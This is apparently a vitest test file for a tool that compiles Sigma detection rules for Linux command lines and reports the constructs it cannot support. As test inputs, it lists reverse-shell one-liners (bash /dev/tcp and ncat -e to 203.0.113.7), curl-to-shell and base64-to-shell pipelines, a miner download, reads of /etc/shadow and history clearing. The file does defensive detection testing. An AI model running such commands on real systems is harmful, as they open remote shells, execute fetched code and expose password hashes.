// Sigma rules read from real rule files (test/fixtures/sigma, written in the Sigma format): the
// supported subset compiled and evaluated; every unsupported construct reported with file, rule
// id, title and construct, never skipped silently.
import { readFileSync } from 'node:fs';
import path from 'node:path';
import { fileURLToPath } from 'node:url';
import { describe, expect, it } from 'vitest';
import { normaliseCommand } from '../../electron/core/rules/command-text.js';
import { parseCondition } from '../../electron/core/rules/condition.js';
import { compileDetection } from '../../electron/core/rules/detection.js';
import type { CommandRule } from '../../electron/core/rules/rule.js';
import { CommandSubject } from '../../electron/core/rules/subject.js';
import { RuleSyntaxError, UnsupportedConstruct } from '../../electron/core/rules/unsupported.js';
import { parseSigmaText, readSigmaSources } from '../../electron/services/analyze/rules-source.js';

const SIGMA = path.resolve(path.dirname(fileURLToPath(import.meta.url)), '../fixtures/sigma');
const load = (rel: string) => parseSigmaText({ name: rel, text: readFileSync(path.join(SIGMA, rel), 'utf8') });
const subject = (text: string, user = 'mallory') => new CommandSubject(normaliseCommand(text), { user, host: 'web-1', cwd: null });
const matches = (rule: CommandRule, text: string, user?: string) => rule.predicate.test(subject(text, user));

function only(rel: string): CommandRule {
  const loaded = load(rel);
  expect(loaded.skipped).toEqual([]);
  expect(loaded.rules).toHaveLength(1);
  return loaded.rules[0] as CommandRule;
}

describe('Sigma: supported rules', () => {
  it('all of selection_* with contains / endswith lists', () => {
    const rule = only('supported/lnx_base64_pipe_shell.yml');
    expect(rule).toMatchObject({ id: '6f2a1c3e-8b1d-4f3a-9c55-0d1e2f3a4b01', title: 'Base64 Decoded Text Piped To A Shell', severity: 'high', origin: 'sigma' });
    expect(rule.tags).toEqual(['attack.defense_evasion', 'attack.t1140']);
    expect(rule.why).toMatch(/^Detects base64-decoded data/);
    expect(matches(rule, 'echo KGNy | base64 -d | sh')).toBe(true);
    expect(matches(rule, 'echo KGNy | BASE64 --decode |bash')).toBe(true);
    expect(matches(rule, 'echo KGNy | base64 -d > /tmp/x')).toBe(false); // one selection only
    expect(matches(rule, 'cat x.sh | sh')).toBe(false);
  });

  it('keywords or 1 of selection_*, Image|endswith, contains|all', () => {
    const rule = only('supported/lnx_reverse_shell_keywords.yml');
    expect(rule.severity).toBe('critical');
    expect(matches(rule, 'bash -i >& /dev/tcp/203.0.113.7/4444 0>&1')).toBe(true);
    expect(matches(rule, '/usr/bin/ncat 203.0.113.7 4444 -e /bin/sh')).toBe(true);
    expect(matches(rule, 'python3 -c "import pty; pty.spawn(\'/bin/sh\')"')).toBe(true);
    expect(matches(rule, 'python3 -c "import pty"')).toBe(false); // all: both values needed
    expect(matches(rule, 'nc -q 1 host 80 < report.txt')).toBe(false); // nc without -e
    expect(matches(rule, 'grep -e foo file')).toBe(false); // -e without nc
    expect(matches(rule, 'ls /dev/pts/')).toBe(false);
  });

  it('re, startswith, a User filter and parentheses', () => {
    const rule = only('supported/lnx_clear_history.yml');
    expect(rule.severity).toBe('medium');
    expect(matches(rule, 'history -c')).toBe(true);
    expect(matches(rule, 'unset HISTFILE')).toBe(true);
    expect(matches(rule, 'history -c', 'root')).toBe(false); // not filter_root
    expect(matches(rule, 'history | tail')).toBe(false);
    expect(matches(rule, 'echo unset HISTFILE')).toBe(false); // startswith
  });

  it('ParentImage (the wrapper) and Image (the program) of a command line', () => {
    const rule = only('supported/lnx_shadow_read.yml');
    expect(matches(rule, 'sudo cat /etc/shadow')).toBe(true);
    expect(matches(rule, 'sudo -u root head -n 3 /etc/shadow')).toBe(true);
    expect(matches(rule, 'cat /etc/shadow')).toBe(false); // no sudo
    expect(matches(rule, 'sudo grep root /etc/shadow')).toBe(false); // grep is not listed
  });

  it('plain values with wildcards are whole-value matches', () => {
    const rule = only('supported/lnx_curl_ip_wildcard.yml');
    expect(matches(rule, 'curl -fsSL http://203.0.113.7/x.sh | sh')).toBe(true);
    expect(matches(rule, 'curl -fsSL http://example.org/x.sh | sh')).toBe(false);
    expect(matches(rule, 'wget http://10.1.2.3/miner -O /tmp/m')).toBe(false); // no .sh
  });

  it('reads a folder of rule files recursively', async () => {
    const sources = await readSigmaSources([path.join(SIGMA, 'supported')]);
    expect(sources.map((s) => path.basename(s.name))).toEqual([
      'lnx_base64_pipe_shell.yml', 'lnx_clear_history.yml', 'lnx_curl_ip_wildcard.yml', 'lnx_reverse_shell_keywords.yml', 'lnx_shadow_read.yml',
    ]);
  });
});

describe('Sigma: unsupported constructs are reported, with file, id, title and construct', () => {
  const cases: Array<[string, string, RegExp]> = [
    ['unsupported/lnx_base64offset.yml', 'modifier base64offset', /value modifier "base64offset" \(in "CommandLine\|base64offset\|contains"\) is not supported/],
    ['unsupported/lnx_count_aggregation.yml', 'aggregation', /aggregation "\| count\(\) by User > 10"/],
    ['unsupported/win_powershell.yml', 'logsource product windows', /logsource product "windows" is not supported/],
    ['unsupported/lnx_network_connection.yml', 'logsource category network_connection', /logsource category "network_connection" is not supported/],
    ['unsupported/lnx_cidr.yml', 'modifier cidr', /value modifier "cidr"/],
    ['unsupported/lnx_hashes_field.yml', 'field Hashes', /field "Hashes" is not part of a command record/],
  ];
  it.each(cases)('%s: %s', (rel, construct, message) => {
    const loaded = load(rel);
    expect(loaded.rules).toEqual([]);
    expect(loaded.skipped).toHaveLength(1);
    const s = loaded.skipped[0];
    expect(s?.construct).toBe(construct);
    expect(s?.message).toMatch(message);
    expect(s?.message).toContain(rel);
    expect(s?.message).toContain(String(s?.id));
    expect(s?.message).toContain(`"${String(s?.title)}"`);
    expect(s?.message).toMatch(/the rule is skipped$/);
  });

  it('several documents in one file: near and timeframe', () => {
    const loaded = load('unsupported/lnx_near_timeframe.yml');
    expect(loaded.rules).toEqual([]);
    expect(loaded.skipped.map((s) => [s.id, s.construct])).toEqual([
      ['0b7c2d4e-1111-4a2b-8c3d-000000000007', 'near'],
      ['0b7c2d4e-1111-4a2b-8c3d-000000000008', 'timeframe'],
    ]);
    expect(loaded.skipped[0]?.message).toContain('(document 1)');
  });

  it('a rule that cannot be read is skipped with the reason, not thrown', () => {
    const loaded = parseSigmaText({ name: 'bad.yml', text: 'title: Bad\nid: x-1\nlogsource: {category: process_creation}\ndetection:\n  sel: {CommandLine|re: "("}\n  condition: sel\n' });
    expect(loaded.skipped[0]?.construct).toBe('syntax');
    expect(loaded.skipped[0]?.message).toMatch(/bad\.yml: rule x-1 "Bad": cannot be read: not a valid regular expression/);
  });
});

describe('Sigma conditions', () => {
  it('parses precedence: not > and > or, parentheses, quantifiers', () => {
    expect(parseCondition('a or b and not c')).toEqual({ kind: 'or', items: [{ kind: 'ref', name: 'a' }, { kind: 'and', items: [{ kind: 'ref', name: 'b' }, { kind: 'not', item: { kind: 'ref', name: 'c' } }] }] });
    expect(parseCondition('(a or b) and c')).toEqual({ kind: 'and', items: [{ kind: 'or', items: [{ kind: 'ref', name: 'a' }, { kind: 'ref', name: 'b' }] }, { kind: 'ref', name: 'c' }] });
    expect(parseCondition('1 of sel* and not all of filter_*')).toEqual({ kind: 'and', items: [{ kind: 'oneOf', pattern: 'sel*' }, { kind: 'not', item: { kind: 'allOf', pattern: 'filter_*' } }] });
    expect(parseCondition('all of them')).toEqual({ kind: 'allOf', pattern: '*' });
  });

  it('reports malformed conditions with the column', () => {
    expect(() => parseCondition('a and')).toThrow(RuleSyntaxError);
    expect(() => parseCondition('(a or b')).toThrow(/"\)" expected at the end/);
    expect(() => parseCondition('a b')).toThrow(/unexpected text at column 3/);
    expect(() => parseCondition('2 of sel*')).toThrow(UnsupportedConstruct);
  });

  it('evaluates 1 of / all of over the selections they name', () => {
    const detection = {
      sel_a: { CommandLine: '*alpha*' },
      sel_b: { CommandLine: '*beta*' },
      other: { CommandLine: '*gamma*' },
      condition: 'all of sel_* and not other',
    };
    const p = compileDetection(detection);
    expect(p.test(subject('alpha beta'))).toBe(true);
    expect(p.test(subject('alpha'))).toBe(false);
    expect(p.test(subject('alpha beta gamma'))).toBe(false);
    expect(() => compileDetection({ sel: { CommandLine: 'x' }, condition: 'sel and missing' })).toThrow(/names "missing", which is not a selection/);
  });
});
